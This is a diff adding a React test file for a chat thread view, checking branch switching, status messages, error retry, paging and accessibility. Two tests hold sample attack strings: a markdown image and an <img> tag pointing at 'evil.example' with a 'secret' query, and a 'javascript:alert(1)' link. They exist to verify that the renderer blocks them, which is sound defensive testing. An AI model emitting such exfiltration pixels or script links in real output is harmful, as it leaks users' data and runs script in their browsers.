@@ -1,0 +1,121 @@
+import { act, screen, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { expect, test } from 'vitest';
+import { useChat } from '../chat/store';
+import { violations } from '../testing/axe';
+import { file, logged, message, said, snapshot, text, tool } from '../testing/builders';
+import { show } from '../testing/page';
+import type { Snapshot } from '../wire/api';
+import { Thread } from './Thread';
+
+function LiveThread() {
+  const chat = useChat('chat1');
+  return chat === undefined ? null : <Thread chatId="chat1" chat={chat} />;
+}
+
+async function showThread(over: Partial<Snapshot>) {
+  const page = show(<LiveThread />, snapshot(over));
+  await page.session.open('chat1');
+  const hear = (bodies: Parameters<typeof logged>[0], first = 1) =>
+    act(() => page.net.say({ type: 'ev', chat: 'chat1', epoch: 1, events: logged(bodies, first) }));
+  return { ...page, hear };
+}
+
+const question = said('u', null, 'set B2 to 99');
+const answers = [
+  message('a1', 'u', { parts: [text('first answer')] }),
+  message('a2', 'u', { parts: [text('second answer')] }),
+];
+
+test('the messages of the shown branch stand in a log that does not announce each change', async () => {
+  await showThread({ messages: [question, ...answers], head_id: 'a2' });
+  const log = screen.getByRole('log', { name: 'Conversation' });
+  expect(log).toHaveAttribute('aria-live', 'off');
+  const shown = within(log).getAllByTestId('message');
+  expect(shown.map((row) => row.dataset['role'])).toEqual(['user', 'assistant']);
+  expect(await screen.findByText('second answer')).toBeInTheDocument();
+  expect(screen.queryByText('first answer')).not.toBeInTheDocument();
+});
+
+test('the switcher counts the versions and asks for the other one', async () => {
+  const { net } = await showThread({ messages: [question, ...answers], head_id: 'a2' });
+  expect(screen.getByRole('img', { name: 'Version 2 of 2' })).toHaveTextContent('2/2');
+  await userEvent.click(screen.getByRole('button', { name: 'Previous version' }));
+  expect(net.sent('select_branch')).toMatchObject([{ chat: 'chat1', message_id: 'a1' }]);
+});
+
+test('generating and its end are said once', async () => {
+  const { hear } = await showThread({ messages: [question], head_id: 'u' });
+  hear([{ type: 'turn.started', turn_id: 't', parent_id: 'u' }]);
+  expect(screen.getByRole('status')).toHaveTextContent('Generating');
+  hear([{ type: 'turn.finished', turn_id: 't', status: 'done' }], 2);
+  expect(screen.getByRole('status')).toHaveTextContent('Complete');
+});
+
+test('an error stands in the broken answer with a way to try again', async () => {
+  const { hear, net } = await showThread({ messages: [question], head_id: 'u' });
+  hear([
+    { type: 'turn.started', turn_id: 't', parent_id: 'u' },
+    { type: 'message.created', message: message('a', 'u', { status: 'error', parts: [text('so far')] }) },
+    {
+      type: 'turn.finished',
+      turn_id: 't',
+      status: 'failed',
+      error: { code: 'cut', message: 'The line was cut.', retryable: true },
+    },
+  ]);
+  expect(await screen.findByText('so far')).toBeInTheDocument();
+  expect(screen.getByRole('alert')).toHaveTextContent('The line was cut.');
+  await userEvent.click(screen.getByRole('button', { name: 'Try again' }));
+  expect(net.sent('regenerate')).toMatchObject([{ message_id: 'a' }]);
+});
+
+test('a turn that failed before it said anything shows its error beneath the question', async () => {
+  const { hear, net } = await showThread({ messages: [question], head_id: 'u' });
+  const error = { code: 'bad_key', message: 'The key was refused.', retryable: true };
+  hear([
+    { type: 'turn.started', turn_id: 't', parent_id: 'u' },
+    { type: 'turn.finished', turn_id: 't', status: 'failed', error },
+  ]);
+  expect(screen.getByRole('alert')).toHaveTextContent('The key was refused.');
+  await userEvent.click(screen.getByRole('button', { name: 'Try again' }));
+  expect(net.sent('regenerate')).toMatchObject([{ message_id: 'u' }]);
+});
+
+test('no picture from outside is ever asked for, and raw HTML stays text', async () => {
+  const hostile = '![pixel](https://evil.example/p.png?q=secret) <img src="https://evil.example/x.png"> end';
+  const answer = message('a', 'u', { parts: [text(hostile)] });
+  const { container } = await showThread({ messages: [question, answer], head_id: 'a' });
+  expect(await screen.findByText('Image not loaded: pixel')).toBeInTheDocument();
+  expect(container.querySelector('img')).toBeNull();
+});
+
+test('a link that would run script has no address', async () => {
+  const answer = message('a', 'u', { parts: [text('[click](javascript:alert(1)) now')] });
+  const { container } = await showThread({ messages: [question, answer], head_id: 'a' });
+  await screen.findByText(/now/);
+  expect(container.innerHTML).not.toContain('javascript:');
+});
+
+test('a long chat draws its newest messages and more on asking', async () => {
+  const messages = Array.from({ length: 130 }, (_, index) =>
+    said(`m${index}`, index === 0 ? null : `m${index - 1}`, `line ${index}`),
+  );
+  await showThread({ messages, head_id: 'm129' });
+  expect(screen.getAllByTestId('message')).toHaveLength(60);
+  await userEvent.click(screen.getByRole('button', { name: 'Show earlier messages' }));
+  expect(screen.getAllByTestId('message')).toHaveLength(120);
+});
+
+test('axe finds nothing in a thread with every kind of part', async () => {
+  const parts = [
+    { type: 'thinking', text: 'hm', ms: 3200 } as const,
+    tool(),
+    text('# Done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```json\n{"a": 1}\n```\n\n- [x] checked'),
+    { type: 'notice', kind: 'unsupported_claim', text: '' } as const,
+  ];
+  const answer = message('a', 'u', { parts });
+  const { container } = await showThread({ messages: [question, answer], head_id: 'a', files: [file()] });
+  await screen.findByRole('heading', { name: 'Done' });
+  expect(await violations(container)).toEqual([]);
+});
